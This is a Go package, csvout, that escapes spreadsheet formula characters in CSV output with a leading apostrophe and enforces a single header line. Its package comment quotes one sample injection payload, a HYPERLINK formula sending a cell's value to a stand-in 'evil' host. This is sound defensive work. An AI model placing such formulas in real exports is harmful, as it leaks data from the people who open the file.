// Package csvout writes CSV that is safe to open in a spreadsheet: every
// CSV file the program writes goes through it.
//
// A spreadsheet runs a cell that starts with =, +, - or @ as a formula (and
// with tab or CR, after trimming, too), so a party name such as
// =HYPERLINK("http://evil/?"&A1) taken from a customer file would run on
// the analyst's machine. Following OWASP's advice on CSV injection, such a
// cell is written with a leading apostrophe, which spreadsheets read as
// "this is text". A cell that already starts with an apostrophe gets one
// more, so the rule is reversible: the original value is the cell with one
// leading apostrophe removed whenever the cell starts with one.
package csvout

import (
	"encoding/csv"
	"errors"
	"io"
	"strings"
	"unicode/utf8"
)

// formulaStart holds the first characters that make a spreadsheet read a
// cell as a formula, plus the apostrophe itself so that escaping can be
// undone. The fullwidth forms are folded to ASCII by some spreadsheet
// locales (Japanese Excel).
const formulaStart = "=+-@\t\r'＝＋－＠"

// Cell returns s as it must be written into a CSV cell: unchanged, or with
// a leading apostrophe when a spreadsheet would run it as a formula.
func Cell(s string) string {
	r, _ := utf8.DecodeRuneInString(s)
	if s != "" && strings.ContainsRune(formulaStart, r) {
		return "'" + s
	}
	return s
}

// Unescape returns the value a cell written by Cell stood for.
func Unescape(cell string) string { return strings.TrimPrefix(cell, "'") }

// ErrHeaderTwice is returned when a header is written after the header or
// after any record: a CSV file has one header, at the top.
var ErrHeaderTwice = errors.New("csvout: header written after the first line")

// Writer is a csv.Writer that escapes every cell with Cell and writes at
// most one header, as the first line.
type Writer struct {
	w   *csv.Writer
	buf []string
	// started is set once any line is written; a header after that would
	// be a second header in the middle of the data.
	started bool
}

// NewWriter returns a Writer to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Continue returns a Writer to w for lines that follow a header written
// elsewhere (another Writer, an earlier chunk of the same file): it
// refuses to write a header.
func Continue(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w), started: true} }

// WriteHeader writes the header line; it fails if anything was written
// before.
func (w *Writer) WriteHeader(cols []string) error {
	if w.started {
		return ErrHeaderTwice
	}
	return w.Write(cols)
}

// Write writes one record, each cell escaped.
func (w *Writer) Write(rec []string) error {
	w.started = true
	w.buf = w.buf[:0]
	for _, c := range rec {
		w.buf = append(w.buf, Cell(c))
	}
	return w.w.Write(w.buf)
}

// Flush writes any buffered data and returns the first error of any write
// or of the flush: a full disk shows here.
func (w *Writer) Flush() error {
	w.w.Flush()
	return w.w.Error()
}
